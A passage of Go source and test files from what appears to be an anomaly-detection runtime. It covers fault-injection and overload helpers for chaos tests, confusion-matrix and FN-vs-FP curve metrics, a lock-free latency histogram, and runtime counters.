func NewWorkerFault(session string, nth int) *WorkerFault {
	if nth < 1 {
		nth = 1
	}
	return &WorkerFault{target: session, nth: int64(nth)}
}

// Hook matches runtime.WorkerHook.
func (f *WorkerFault) Hook(worker int, session string) {
	if session != f.target {
		return
	}
	if f.ops.Add(1) == f.nth {
		f.fired.Store(true)
		panic(fmt.Sprintf("faultinject: killing worker %d on op %d of session %q", worker, f.nth, session))
	}
}

// Fired reports whether the worker crash has been injected.
func (f *WorkerFault) Fired() bool { return f.fired.Load() }

// WorkerLatency returns a runtime.WorkerHook-shaped injector that stalls
// every op by d — coarse latency injection for backpressure and deadline
// tests.
func WorkerLatency(d time.Duration) func(worker int, session string) {
	return func(int, string) { time.Sleep(d) }
}

// WorkerGate returns a worker hook that blocks every op until release is
// closed — a deterministic way to wedge a worker (full-queue and shutdown
// deadline tests).
func WorkerGate(release <-chan struct{}) func(worker int, session string) {
	return func(int, string) { <-release }
}

// Stream is the slice of a runtime session the overload generator drives.
// runtime.Session satisfies it; the indirection keeps this package free of a
// runtime import (the runtime's own chaos tests import faultinject).
type Stream interface {
	Observe(c collector.Call) error
	ObserveBatch(calls []collector.Call) error
}

// OverloadReport tallies one generator run: calls offered to the stream,
// calls the runtime accepted, calls rejected by drop/shed errors, and how
// many individual ops returned a rejection. Admitted + Shed == Sent unless
// Run aborted on an unclassified error.
type OverloadReport struct {
	Sent     int
	Admitted int
	Shed     int
	ShedOps  int
}

// OverloadGen replays traces into a Stream as fast as the caller's loop can
// go — no pacing, no backoff — so that against a small queue (or a stalled
// worker) the offered load exceeds capacity by construction. Passes repeats
// the whole corpus; Batch > 1 sends calls through ObserveBatch in chunks of
// that size, exercising partial-batch admission.
type OverloadGen struct {
	Traces []collector.Trace
	Passes int
	Batch  int
}

// Run offers every call to s and classifies each error with classify, which
// reports how many of the op's n calls were rejected and whether the error
// is an expected overload rejection (drop/shed) rather than a hard failure.
// Run stops at the first unclassified error and returns it with the partial
// report.
func (g *OverloadGen) Run(s Stream, classify func(err error, n int) (rejected int, overload bool)) (OverloadReport, error) {
	passes := g.Passes
	if passes < 1 {
		passes = 1
	}
	var r OverloadReport
	offer := func(calls []collector.Call) error {
		n := len(calls)
		var err error
		if g.Batch > 1 {
			err = s.ObserveBatch(calls)
		} else {
			err = s.Observe(calls[0])
		}
		r.Sent += n
		if err == nil {
			r.Admitted += n
			return nil
		}
		rejected, overload := classify(err, n)
		if !overload {
			return err
		}
		if rejected < 0 || rejected > n {
			return fmt.Errorf("faultinject: classifier reported %d of %d calls rejected: %w", rejected, n, err)
		}
		r.Shed += rejected
		r.Admitted += n - rejected
		r.ShedOps++
		return nil
	}
	for pass := 0; pass < passes; pass++ {
		for _, tr := range g.Traces {
			if g.Batch > 1 {
				for lo := 0; lo < len(tr); lo += g.Batch {
					hi := lo + g.Batch
					if hi > len(tr) {
						hi = len(tr)
					}
					if err := offer(tr[lo:hi]); err != nil {
						return r, err
					}
				}
				continue
			}
			for i := range tr {
				if err := offer(tr[i : i+1]); err != nil {
					return r, err
				}
			}
		}
	}
	return r, nil
}
