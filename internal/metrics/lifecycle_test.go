package metrics

import (
	"sync"
	"testing"
)

func TestLifecycleSnapshot(t *testing.T) {
	var l Lifecycle
	for i := 0; i < 5; i++ {
		l.AddDriftSample()
	}
	l.AddDriftSignal()
	l.AddRetrainStarted()
	l.AddRetrainSucceeded()
	l.AddRetrainStarted()
	l.AddRetrainFailed()
	l.AddSwap()
	l.AddTraceRecorded()
	l.AddTraceRecorded()
	l.AddTraceEvicted()

	s := l.Snapshot()
	want := LifecycleSnapshot{
		DriftSamples: 5, DriftSignals: 1,
		RetrainsStarted: 2, RetrainsSucceeded: 1, RetrainsFailed: 1,
		Swaps: 1, TracesRecorded: 2, TracesEvicted: 1,
	}
	if s != want {
		t.Fatalf("snapshot = %+v, want %+v", s, want)
	}
}

func TestLifecycleConcurrent(t *testing.T) {
	var l Lifecycle
	var wg sync.WaitGroup
	const workers, perWorker = 8, 1000
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < perWorker; i++ {
				l.AddDriftSample()
				l.AddTraceRecorded()
			}
		}()
	}
	wg.Wait()
	s := l.Snapshot()
	if s.DriftSamples != workers*perWorker || s.TracesRecorded != workers*perWorker {
		t.Fatalf("lost updates: %+v", s)
	}
}

func TestCountersSwapFields(t *testing.T) {
	var c Counters
	c.AddSwap()
	c.AddSwap()
	c.AddEngineRetired()
	s := c.Snapshot()
	if s.Swaps != 2 || s.EnginesRetired != 1 {
		t.Fatalf("swap counters = %d/%d, want 2/1", s.Swaps, s.EnginesRetired)
	}
}
