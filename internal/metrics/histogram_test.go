package metrics

import (
	"math"
	"sync"
	"testing"
)

func TestBucketOfBoundaries(t *testing.T) {
	cases := []struct {
		v    int64
		want int
	}{
		{-5, 0}, {0, 0}, {1, 0}, // bucket 0 holds ≤ 1ns
		{2, 1},         // (1, 2]
		{3, 2}, {4, 2}, // (2, 4]
		{5, 3}, {8, 3}, // (4, 8]
		{1024, 10}, // exact power lands in its own bucket
		{1025, 11}, // one past the power spills to the next
		{1 << 38, 38},
		{1 << 45, HistBuckets - 1}, // clamps into the open-ended bucket
	}
	for _, c := range cases {
		if got := bucketOf(c.v); got != c.want {
			t.Errorf("bucketOf(%d) = %d, want %d", c.v, got, c.want)
		}
	}
	// Every bucketed value must respect its bound: v ≤ BucketBound(bucketOf(v)).
	for _, v := range []int64{1, 2, 3, 7, 100, 999, 4096, 1 << 20, 1 << 39} {
		b := bucketOf(v)
		if hi := BucketBound(b); float64(v) > hi {
			t.Errorf("value %d landed in bucket %d with bound %g", v, b, hi)
		}
		if b > 0 {
			lo := float64(int64(1) << uint(b-1))
			if float64(v) <= lo && b != HistBuckets-1 {
				t.Errorf("value %d ≤ lower bound %g of bucket %d", v, lo, b)
			}
		}
	}
}

func TestBucketBound(t *testing.T) {
	if got := BucketBound(0); got != 1 {
		t.Errorf("BucketBound(0) = %g, want 1", got)
	}
	if got := BucketBound(10); got != 1024 {
		t.Errorf("BucketBound(10) = %g, want 1024", got)
	}
	if !math.IsInf(BucketBound(HistBuckets-1), 1) {
		t.Error("last bucket bound must be +Inf")
	}
}

func TestHistogramObserveAndSnapshot(t *testing.T) {
	var h Histogram
	for _, v := range []int64{100, 200, 300, 400, -7} { // negative clamps to 0
		h.Observe(v)
	}
	s := h.Snapshot()
	if s.Count != 5 {
		t.Fatalf("count = %d, want 5", s.Count)
	}
	if s.Sum != 1000 {
		t.Errorf("sum = %d, want 1000", s.Sum)
	}
	if s.Max != 400 {
		t.Errorf("max = %d, want 400", s.Max)
	}
	if s.Mean() != 200 {
		t.Errorf("mean = %d, want 200", s.Mean())
	}
	var total uint64
	for _, n := range s.Buckets {
		total += n
	}
	if total != s.Count {
		t.Errorf("bucket counts sum to %d, want %d", total, s.Count)
	}
}

func TestHistogramQuantile(t *testing.T) {
	var zero HistogramSnapshot
	if zero.Quantile(0.5) != 0 || zero.Mean() != 0 {
		t.Error("empty snapshot must report zero quantiles and mean")
	}

	var h Histogram
	for i := int64(1); i <= 1000; i++ {
		h.Observe(i)
	}
	s := h.Snapshot()
	if got := s.Quantile(1); got != 1000 {
		t.Errorf("Quantile(1) = %d, want exact max 1000", got)
	}
	// Bucket interpolation is coarse (power-of-two bounds), so allow a factor
	// of 2 around the true rank value.
	for _, c := range []struct {
		q    float64
		true int64
	}{{0.50, 500}, {0.95, 950}, {0.99, 990}} {
		got := s.Quantile(c.q)
		if got < c.true/2 || got > c.true*2 {
			t.Errorf("Quantile(%g) = %d, want within [%d, %d]", c.q, got, c.true/2, c.true*2)
		}
	}
	// Out-of-range q clamps instead of panicking.
	if got := s.Quantile(-1); got <= 0 {
		t.Errorf("Quantile(-1) = %d, want > 0", got)
	}
	if got := s.Quantile(2); got != 1000 {
		t.Errorf("Quantile(2) = %d, want 1000", got)
	}
}

func TestHistogramConcurrent(t *testing.T) {
	var h Histogram
	const (
		goroutines = 8
		perG       = 10000
	)
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < perG; i++ {
				h.Observe(int64(g*perG + i))
			}
		}(g)
	}
	wg.Wait()
	s := h.Snapshot()
	if s.Count != goroutines*perG {
		t.Errorf("count = %d, want %d", s.Count, goroutines*perG)
	}
	if s.Max != goroutines*perG-1 {
		t.Errorf("max = %d, want %d", s.Max, goroutines*perG-1)
	}
}

// TestAvgAndMaxLatency pins the derived latency accessors of
// CountersSnapshot: the average over all calls and the single largest call.
func TestAvgAndMaxLatency(t *testing.T) {
	cases := []struct {
		name      string
		latencies []int64
		wantAvg   int64
		wantMax   int64
	}{
		{"no calls", nil, 0, 0},
		{"one call", []int64{250}, 250, 250},
		{"uniform", []int64{100, 100, 100}, 100, 100},
		{"spread", []int64{50, 150, 400}, 200, 400},
		{"spike dominates max not avg", []int64{10, 10, 10, 10000}, 2507, 10000},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var ctr Counters
			for _, l := range c.latencies {
				ctr.AddCall(l)
			}
			s := ctr.Snapshot()
			if got := s.AvgLatencyNanos(); got != c.wantAvg {
				t.Errorf("AvgLatencyNanos = %d, want %d", got, c.wantAvg)
			}
			if got := s.MaxLatencyNanos(); got != c.wantMax {
				t.Errorf("MaxLatencyNanos = %d, want %d", got, c.wantMax)
			}
			if s.Observe.Sum != s.LatencyNanos {
				t.Errorf("Observe.Sum = %d diverged from LatencyNanos = %d", s.Observe.Sum, s.LatencyNanos)
			}
			if s.Observe.Count != s.Calls {
				t.Errorf("Observe.Count = %d diverged from Calls = %d", s.Observe.Count, s.Calls)
			}
		})
	}
}

func TestCountersFlushAndSinkHistograms(t *testing.T) {
	var ctr Counters
	ctr.AddFlush(1000)
	ctr.AddFlush(3000)
	ctr.AddSinkDelivery(500)
	s := ctr.Snapshot()
	if s.Flush.Count != 2 || s.Flush.Sum != 4000 || s.Flush.Max != 3000 {
		t.Errorf("flush histogram = {count %d sum %d max %d}, want {2 4000 3000}",
			s.Flush.Count, s.Flush.Sum, s.Flush.Max)
	}
	if s.SinkDelivery.Count != 1 || s.SinkDelivery.Max != 500 {
		t.Errorf("sink histogram = {count %d max %d}, want {1 500}",
			s.SinkDelivery.Count, s.SinkDelivery.Max)
	}
}
