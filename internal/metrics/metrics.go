// Package metrics implements the accuracy bookkeeping of §V-D: confusion
// matrices, the FP/FN/precision/recall/accuracy formulas the paper lists,
// threshold sweeps for the Figure 10 FN-vs-FP curves, and k-fold partitions
// for cross validation.
//
// Scoring convention: a window whose per-symbol log-probability is below the
// threshold is flagged anomalous. A flagged anomaly is a true positive; a
// flagged normal window is a false positive.
package metrics

import (
	"fmt"
	"sort"
)

// Confusion is a binary confusion matrix.
type Confusion struct {
	TP, TN, FP, FN int
}

// Total returns the number of classified sequences.
func (c Confusion) Total() int { return c.TP + c.TN + c.FP + c.FN }

// Precision is TP/(TP+FP); 1 when nothing was flagged.
func (c Confusion) Precision() float64 {
	if c.TP+c.FP == 0 {
		return 1
	}
	return float64(c.TP) / float64(c.TP+c.FP)
}

// Recall is TP/(TP+FN); 1 when there were no anomalies.
func (c Confusion) Recall() float64 {
	if c.TP+c.FN == 0 {
		return 1
	}
	return float64(c.TP) / float64(c.TP+c.FN)
}

// Accuracy is (TP+TN)/total; 1 for an empty matrix.
func (c Confusion) Accuracy() float64 {
	if c.Total() == 0 {
		return 1
	}
	return float64(c.TP+c.TN) / float64(c.Total())
}

// FPRate is FP/(FP+TN); 0 when there were no normals.
func (c Confusion) FPRate() float64 {
	if c.FP+c.TN == 0 {
		return 0
	}
	return float64(c.FP) / float64(c.FP+c.TN)
}

// FNRate is FN/(FN+TP); 0 when there were no anomalies.
func (c Confusion) FNRate() float64 {
	if c.FN+c.TP == 0 {
		return 0
	}
	return float64(c.FN) / float64(c.FN+c.TP)
}

func (c Confusion) String() string {
	return fmt.Sprintf("TP=%d TN=%d FP=%d FN=%d (prec %.2f rec %.2f acc %.4f)",
		c.TP, c.TN, c.FP, c.FN, c.Precision(), c.Recall(), c.Accuracy())
}

// Count classifies score sets against a threshold.
func Count(normalScores, anomalousScores []float64, threshold float64) Confusion {
	var c Confusion
	for _, s := range normalScores {
		if s < threshold {
			c.FP++
		} else {
			c.TN++
		}
	}
	for _, s := range anomalousScores {
		if s < threshold {
			c.TP++
		} else {
			c.FN++
		}
	}
	return c
}

// Point is one (FP rate, FN rate) operating point of a detector.
type Point struct {
	Threshold float64
	FPRate    float64
	FNRate    float64
}

// FNAtFP returns the detector's FN rate when its threshold is tuned to admit
// at most the given FP rate on the normal scores — how Figure 10 compares
// AD-PROM and Rand-HMM "under the same FP rates".
func FNAtFP(normal, anomalous []float64, fpRate float64) Point {
	if len(normal) == 0 {
		return Point{}
	}
	sorted := append([]float64(nil), normal...)
	sort.Float64s(sorted)
	// The threshold sits just above the k-th lowest normal score, flagging
	// exactly k normals: k = floor(fpRate · n).
	k := int(fpRate * float64(len(sorted)))
	if k > len(sorted) {
		k = len(sorted)
	}
	var threshold float64
	switch {
	case k <= 0:
		threshold = sorted[0] // flag nothing normal
	case k >= len(sorted):
		threshold = sorted[len(sorted)-1] + 1
	default:
		threshold = sorted[k]
	}
	c := Count(normal, anomalous, threshold)
	return Point{Threshold: threshold, FPRate: c.FPRate(), FNRate: c.FNRate()}
}

// Curve evaluates FNAtFP over a set of FP-rate targets (Figure 10's x-axis).
func Curve(normal, anomalous []float64, fpRates []float64) []Point {
	out := make([]Point, len(fpRates))
	for i, r := range fpRates {
		out[i] = FNAtFP(normal, anomalous, r)
	}
	return out
}

// KFold returns k disjoint validation index sets covering [0, n), built by
// striding so that folds interleave (the dataset ordering carries test-case
// structure that contiguous folds would skew).
func KFold(n, k int) [][]int {
	if k <= 0 || n <= 0 {
		return nil
	}
	if k > n {
		k = n
	}
	folds := make([][]int, k)
	for i := 0; i < n; i++ {
		folds[i%k] = append(folds[i%k], i)
	}
	return folds
}
