package metrics

import (
	"math"
	"math/bits"
	"sync/atomic"
)

// HistBuckets is the number of power-of-two buckets a Histogram carries.
// Bucket 0 holds values ≤ 1 ns; bucket i holds values in (2^(i-1), 2^i] ns;
// the last bucket is open-ended. 40 buckets cover up to ~2^39 ns ≈ 9 min,
// far beyond any per-op latency the runtime measures.
const HistBuckets = 40

// Histogram is a lock-free latency histogram with power-of-two bucket
// boundaries, designed for the detection hot path: Observe costs a handful of
// uncontended atomic adds and never allocates. The zero value is ready; all
// methods are safe for concurrent use.
type Histogram struct {
	count   atomic.Uint64
	sum     atomic.Int64
	max     atomic.Int64
	buckets [HistBuckets]atomic.Uint64

	// exemplar is the decision-trace ID of a recent notable observation (the
	// runtime stamps the trace of each alert-raising op), correlating the
	// latency distribution with a retained trace. A pointer swap keeps reads
	// and writes lock-free.
	exemplar atomic.Pointer[string]
}

// SetExemplar attaches a trace ID to the histogram as its latest exemplar;
// empty IDs (tracing disabled) are ignored.
func (h *Histogram) SetExemplar(traceID string) {
	if traceID == "" {
		return
	}
	h.exemplar.Store(&traceID)
}

// bucketOf maps a value (nanoseconds) to its bucket index: the number of bits
// needed to represent it, clamped to the open-ended last bucket.
func bucketOf(v int64) int {
	if v <= 1 {
		return 0
	}
	b := bits.Len64(uint64(v - 1)) // v ≤ 2^b, v > 2^(b-1)
	if b >= HistBuckets {
		b = HistBuckets - 1
	}
	return b
}

// Observe folds one duration (nanoseconds; negatives clamp to zero) into the
// histogram.
func (h *Histogram) Observe(nanos int64) {
	if nanos < 0 {
		nanos = 0
	}
	h.count.Add(1)
	h.sum.Add(nanos)
	for {
		cur := h.max.Load()
		if nanos <= cur || h.max.CompareAndSwap(cur, nanos) {
			break
		}
	}
	h.buckets[bucketOf(nanos)].Add(1)
}

// ObserveN folds n observations of the same duration into the histogram with
// one set of atomic updates — the batched-ingest path attributes each call of
// a batch its mean per-call share this way instead of issuing n Observes.
func (h *Histogram) ObserveN(nanos int64, n uint64) {
	if n == 0 {
		return
	}
	if nanos < 0 {
		nanos = 0
	}
	h.count.Add(n)
	h.sum.Add(nanos * int64(n))
	for {
		cur := h.max.Load()
		if nanos <= cur || h.max.CompareAndSwap(cur, nanos) {
			break
		}
	}
	h.buckets[bucketOf(nanos)].Add(n)
}

// Snapshot copies the histogram. Buckets are each read atomically; the whole
// is not one atomic cut, which is fine for monitoring.
func (h *Histogram) Snapshot() HistogramSnapshot {
	s := HistogramSnapshot{
		Count: h.count.Load(),
		Sum:   h.sum.Load(),
		Max:   h.max.Load(),
	}
	for i := range s.Buckets {
		s.Buckets[i] = h.buckets[i].Load()
	}
	if p := h.exemplar.Load(); p != nil {
		s.Exemplar = *p
	}
	return s
}

// HistogramSnapshot is a point-in-time copy of a Histogram.
type HistogramSnapshot struct {
	// Count and Sum aggregate every observed value; Max is the largest one.
	Count uint64
	Sum   int64
	Max   int64
	// Buckets[i] counts values in (BucketBound(i-1), BucketBound(i)].
	Buckets [HistBuckets]uint64
	// Exemplar is the trace ID of the latest notable observation, empty when
	// tracing is off or nothing notable has been observed yet.
	Exemplar string `json:"exemplar,omitempty"`
}

// BucketBound returns the inclusive upper bound of bucket i in nanoseconds;
// the last bucket is open-ended (+Inf).
func BucketBound(i int) float64 {
	if i >= HistBuckets-1 {
		return math.Inf(1)
	}
	return float64(int64(1) << uint(i))
}

// Mean returns the average observed value, 0 before any observation.
func (s HistogramSnapshot) Mean() int64 {
	if s.Count == 0 {
		return 0
	}
	return s.Sum / int64(s.Count)
}

// Quantile estimates the q-quantile (0 ≤ q ≤ 1) in nanoseconds by locating
// the bucket holding the target rank and interpolating linearly inside it.
// The estimate is clamped to Max, so Quantile(1) is exact.
func (s HistogramSnapshot) Quantile(q float64) int64 {
	if s.Count == 0 {
		return 0
	}
	if q < 0 {
		q = 0
	}
	if q > 1 {
		q = 1
	}
	rank := q * float64(s.Count)
	if rank < 1 {
		rank = 1
	}
	var cum float64
	for i, n := range s.Buckets {
		if n == 0 {
			continue
		}
		next := cum + float64(n)
		if rank <= next {
			lo := 0.0
			if i > 0 {
				lo = float64(int64(1) << uint(i-1))
			}
			hi := BucketBound(i)
			if math.IsInf(hi, 1) {
				hi = float64(s.Max)
			}
			v := int64(lo + (hi-lo)*(rank-cum)/float64(n))
			if v > s.Max {
				v = s.Max
			}
			return v
		}
		cum = next
	}
	return s.Max
}
