package metrics

import (
	"math"
	"sort"
	"testing"
	"testing/quick"
)

func TestConfusionFormulas(t *testing.T) {
	c := Confusion{TP: 8, TN: 90, FP: 2, FN: 0}
	if got := c.Precision(); got != 0.8 {
		t.Errorf("Precision = %v", got)
	}
	if got := c.Recall(); got != 1 {
		t.Errorf("Recall = %v", got)
	}
	if got := c.Accuracy(); got != 0.98 {
		t.Errorf("Accuracy = %v", got)
	}
	if got := c.FPRate(); math.Abs(got-2.0/92) > 1e-12 {
		t.Errorf("FPRate = %v", got)
	}
	if got := c.FNRate(); got != 0 {
		t.Errorf("FNRate = %v", got)
	}
	if c.Total() != 100 {
		t.Errorf("Total = %d", c.Total())
	}
}

func TestConfusionDegenerateCases(t *testing.T) {
	var zero Confusion
	if zero.Precision() != 1 || zero.Recall() != 1 || zero.Accuracy() != 1 ||
		zero.FPRate() != 0 || zero.FNRate() != 0 {
		t.Errorf("zero matrix: %v", zero)
	}
}

func TestCount(t *testing.T) {
	normal := []float64{-1, -2, -3, -10}
	anomalous := []float64{-8, -9, -2.5}
	c := Count(normal, anomalous, -5)
	// Normals below -5: only -10 → FP=1, TN=3.
	// Anomalies below -5: -8, -9 → TP=2, FN=1.
	want := Confusion{TP: 2, TN: 3, FP: 1, FN: 1}
	if c != want {
		t.Errorf("Count = %+v, want %+v", c, want)
	}
}

func TestFNAtFPZeroFlagsNoNormals(t *testing.T) {
	normal := []float64{-1, -2, -3}
	anomalous := []float64{-10, -1.5}
	p := FNAtFP(normal, anomalous, 0)
	if p.FPRate != 0 {
		t.Errorf("FPRate = %v, want 0", p.FPRate)
	}
	// Threshold = lowest normal (-3): anomalies below it: -10 (TP);
	// -1.5 ≥ -3 (FN) → FN rate 0.5.
	if p.FNRate != 0.5 {
		t.Errorf("FNRate = %v, want 0.5", p.FNRate)
	}
}

func TestFNAtFPMonotone(t *testing.T) {
	normal := make([]float64, 100)
	anomalous := make([]float64, 50)
	for i := range normal {
		normal[i] = -float64(i%17) - 1
	}
	for i := range anomalous {
		anomalous[i] = -float64(20 + i%30)
	}
	prev := math.Inf(1)
	for _, r := range []float64{0, 0.01, 0.05, 0.1, 0.2} {
		p := FNAtFP(normal, anomalous, r)
		if p.FPRate > r+1e-9 {
			t.Errorf("FPRate %v exceeds target %v", p.FPRate, r)
		}
		if p.FNRate > prev+1e-9 {
			t.Errorf("FN rate not monotone: %v after %v", p.FNRate, prev)
		}
		prev = p.FNRate
	}
}

func TestFNAtFPEdge(t *testing.T) {
	if p := FNAtFP(nil, []float64{-1}, 0.1); p != (Point{}) {
		t.Errorf("empty normals = %+v", p)
	}
	// fpRate 1 flags everything: FN 0.
	p := FNAtFP([]float64{-1, -2}, []float64{-0.5}, 1)
	if p.FNRate != 0 {
		t.Errorf("FNRate at fp=1 is %v", p.FNRate)
	}
}

func TestCurve(t *testing.T) {
	normal := []float64{-1, -2, -3, -4}
	anomalous := []float64{-5, -6}
	rates := []float64{0, 0.25, 0.5}
	pts := Curve(normal, anomalous, rates)
	if len(pts) != 3 {
		t.Fatalf("Curve = %d points", len(pts))
	}
	for i := 1; i < len(pts); i++ {
		if pts[i].FNRate > pts[i-1].FNRate {
			t.Errorf("curve not monotone: %+v", pts)
		}
	}
}

func TestKFold(t *testing.T) {
	folds := KFold(10, 3)
	if len(folds) != 3 {
		t.Fatalf("folds = %d", len(folds))
	}
	seen := map[int]bool{}
	for _, f := range folds {
		for _, i := range f {
			if seen[i] {
				t.Errorf("index %d in two folds", i)
			}
			seen[i] = true
		}
	}
	if len(seen) != 10 {
		t.Errorf("folds cover %d of 10", len(seen))
	}
	if KFold(0, 3) != nil || KFold(5, 0) != nil {
		t.Error("degenerate KFold not nil")
	}
	if got := KFold(2, 5); len(got) != 2 {
		t.Errorf("k>n folds = %d", len(got))
	}
}

// TestCountConsistency is a quick-check property: FP+TN = |normal| and
// TP+FN = |anomalous| for any inputs.
func TestCountConsistency(t *testing.T) {
	f := func(normal, anomalous []float64, threshold float64) bool {
		c := Count(normal, anomalous, threshold)
		return c.FP+c.TN == len(normal) && c.TP+c.FN == len(anomalous)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

// TestFNAtFPRespectsBudget: the realised FP rate never exceeds the target.
func TestFNAtFPRespectsBudget(t *testing.T) {
	f := func(raw []float64, target float64) bool {
		if len(raw) == 0 {
			return true
		}
		target = math.Abs(target)
		target -= math.Floor(target) // clamp into [0,1)
		normal := append([]float64(nil), raw...)
		sort.Float64s(normal)
		p := FNAtFP(normal, raw, target)
		return p.FPRate <= target+1e-9
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}
