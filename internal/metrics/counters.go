package metrics

import "sync/atomic"

// NumFlags is the size of the alert-flag taxonomy the counters track
// (detect.FlagNormal..FlagOutOfContext). metrics stays independent of the
// detect package, so flags are counted by their integer value.
const NumFlags = 4

// NumChannels is the size of the detection-channel provenance taxonomy
// (detect.ChannelNames: hmm, sql, fusion). As with flags, metrics stays
// independent of the detect package, so channels are counted by index.
const NumChannels = 3

// Counters is a lock-free set of detection-runtime counters, shared by every
// worker of a runtime. All methods are safe for concurrent use; the zero
// value is ready.
type Counters struct {
	calls    atomic.Uint64
	dropped  atomic.Uint64
	shed     atomic.Uint64
	alerts   [NumFlags]atomic.Uint64
	channels [NumChannels]atomic.Uint64
	sessions atomic.Int64
	opened   atomic.Uint64

	// queueHighWater is the lifetime maximum of pending ingest calls observed
	// on any single worker queue — the saturation early-warning gauge.
	queueHighWater atomic.Int64

	// Latency histograms for the three instrumented paths: per-call engine
	// scoring (observe), flush/close processing, and async sink deliveries.
	// The observe histogram subsumes the old latencyNanos sum: the snapshot's
	// LatencyNanos and MaxLatencyNanos derive from it.
	observe     Histogram
	flush       Histogram
	sinkDeliver Histogram

	// Failure-path counters (worker supervision and sink isolation).
	panics         atomic.Uint64
	workerRestarts atomic.Uint64
	quarantined    atomic.Uint64
	sinkDropped    atomic.Uint64
	sinkPanics     atomic.Uint64

	// Hot-swap counters (profile lifecycle).
	swaps          atomic.Uint64
	enginesRetired atomic.Uint64
}

// AddCall records one observed call and its processing latency in
// nanoseconds.
func (c *Counters) AddCall(latencyNanos int64) {
	c.calls.Add(1)
	c.observe.Observe(latencyNanos)
}

// AddCalls records n calls processed by one batched op that took totalNanos.
// Each call is attributed the mean per-call share of the batch, preserving
// the snapshot invariant Observe.Count == Calls (Observe.Sum may round down
// by up to n-1 nanoseconds per batch).
func (c *Counters) AddCalls(n int, totalNanos int64) {
	if n <= 0 {
		return
	}
	c.calls.Add(uint64(n))
	c.observe.ObserveN(totalNanos/int64(n), uint64(n))
}

// NoteObserveExemplar attaches a decision-trace ID to the observe-latency
// histogram as its latest exemplar — the runtime stamps each alert-raising
// op's trace here so latency snapshots link back to a forensic trace.
func (c *Counters) NoteObserveExemplar(traceID string) { c.observe.SetExemplar(traceID) }

// AddFlush records the processing latency of one flush or close op.
func (c *Counters) AddFlush(latencyNanos int64) { c.flush.Observe(latencyNanos) }

// AddSinkDelivery records the duration of one alert delivery to the user's
// sink (including deliveries that ended in a recovered panic).
func (c *Counters) AddSinkDelivery(latencyNanos int64) { c.sinkDeliver.Observe(latencyNanos) }

// AddDropped records calls shed by the ingest queue's drop policy.
func (c *Counters) AddDropped(n uint64) { c.dropped.Add(n) }

// AddShed records calls rejected by the risk-aware admission controller
// (ShedByRisk). Kept separate from Dropped so operators can distinguish a
// deliberate, risk-ranked degradation from blind queue-full drops.
func (c *Counters) AddShed(n uint64) { c.shed.Add(n) }

// NoteQueueDepth folds one observed per-worker pending-call depth into the
// lifetime high-water mark. Lock-free CAS max; safe from every producer.
func (c *Counters) NoteQueueDepth(depth int64) {
	for {
		cur := c.queueHighWater.Load()
		if depth <= cur || c.queueHighWater.CompareAndSwap(cur, depth) {
			return
		}
	}
}

// AddAlert records one alert of the given flag; out-of-range flags are
// ignored rather than panicking a worker.
func (c *Counters) AddAlert(flag int) {
	if flag >= 0 && flag < NumFlags {
		c.alerts[flag].Add(1)
	}
}

// AddChannelAlert records that an alert crossed the given detection
// channel's rule (index into detect.ChannelNames); one alert can count
// against several channels. Out-of-range indices are ignored.
func (c *Counters) AddChannelAlert(channel int) {
	if channel >= 0 && channel < NumChannels {
		c.channels[channel].Add(1)
	}
}

// SessionOpened / SessionClosed maintain the active-session gauge.
func (c *Counters) SessionOpened() { c.sessions.Add(1); c.opened.Add(1) }
func (c *Counters) SessionClosed() { c.sessions.Add(-1) }

// ActiveSessions reads the active-session gauge alone — a single atomic
// load, cheap enough for per-call admission checks (the tenant router's
// session quota), unlike Snapshot which also copies three histograms.
func (c *Counters) ActiveSessions() int64 { return c.sessions.Load() }

// AddPanic records one panic recovered on a detection worker (per-op recovery
// or a worker-goroutine crash).
func (c *Counters) AddPanic() { c.panics.Add(1) }

// AddWorkerRestart records one supervised restart of a crashed worker
// goroutine.
func (c *Counters) AddWorkerRestart() { c.workerRestarts.Add(1) }

// AddQuarantined records one session quarantined after a component failure.
func (c *Counters) AddQuarantined() { c.quarantined.Add(1) }

// AddSinkDropped records alerts shed by the async sink dispatcher (buffer
// overflow or per-delivery handoff timeout).
func (c *Counters) AddSinkDropped(n uint64) { c.sinkDropped.Add(n) }

// AddSinkPanic records one panic recovered from the user's alert sink.
func (c *Counters) AddSinkPanic() { c.sinkPanics.Add(1) }

// AddSwap records one profile hot-swap published to the runtime.
func (c *Counters) AddSwap() { c.swaps.Add(1) }

// AddEngineRetired records one detection engine discarded because it was
// built over a superseded profile generation (instead of being recycled).
func (c *Counters) AddEngineRetired() { c.enginesRetired.Add(1) }

// CountersSnapshot is a point-in-time copy of a Counters.
type CountersSnapshot struct {
	// Calls is the number of calls processed by detection workers.
	Calls uint64
	// Dropped is the number of calls shed under queue pressure.
	Dropped uint64
	// Shed is the number of calls rejected by risk-aware admission
	// (ShedByRisk); disjoint from Dropped.
	Shed uint64
	// QueueHighWater is the lifetime maximum pending-call depth observed on
	// any single worker queue.
	QueueHighWater int64
	// Alerts counts raised alerts by flag value.
	Alerts [NumFlags]uint64
	// ChannelAlerts counts alert provenance by detection channel (hmm, sql,
	// fusion); one alert can increment several channels.
	ChannelAlerts [NumChannels]uint64
	// LatencyNanos is the cumulative per-call processing time.
	LatencyNanos int64
	// ActiveSessions and SessionsOpened describe session churn.
	ActiveSessions int64
	SessionsOpened uint64
	// Panics counts panics recovered on detection workers; WorkerRestarts
	// counts supervised worker-goroutine restarts; Quarantined counts
	// sessions isolated after a component failure.
	Panics         uint64
	WorkerRestarts uint64
	Quarantined    uint64
	// SinkDropped counts alerts shed by the async sink dispatcher;
	// SinkPanics counts panics recovered from the user's alert sink.
	SinkDropped uint64
	SinkPanics  uint64
	// Swaps counts profile hot-swaps; EnginesRetired counts pooled or
	// per-session engines discarded for being a generation behind.
	Swaps          uint64
	EnginesRetired uint64
	// Observe, Flush, and SinkDelivery are the latency histograms of the
	// per-call scoring path, the flush/close path, and async sink deliveries.
	// Observe.Sum == LatencyNanos and Observe.Count == Calls.
	Observe      HistogramSnapshot
	Flush        HistogramSnapshot
	SinkDelivery HistogramSnapshot
}

// AlertTotal sums the per-flag alert counts.
func (s CountersSnapshot) AlertTotal() uint64 {
	var t uint64
	for _, v := range s.Alerts {
		t += v
	}
	return t
}

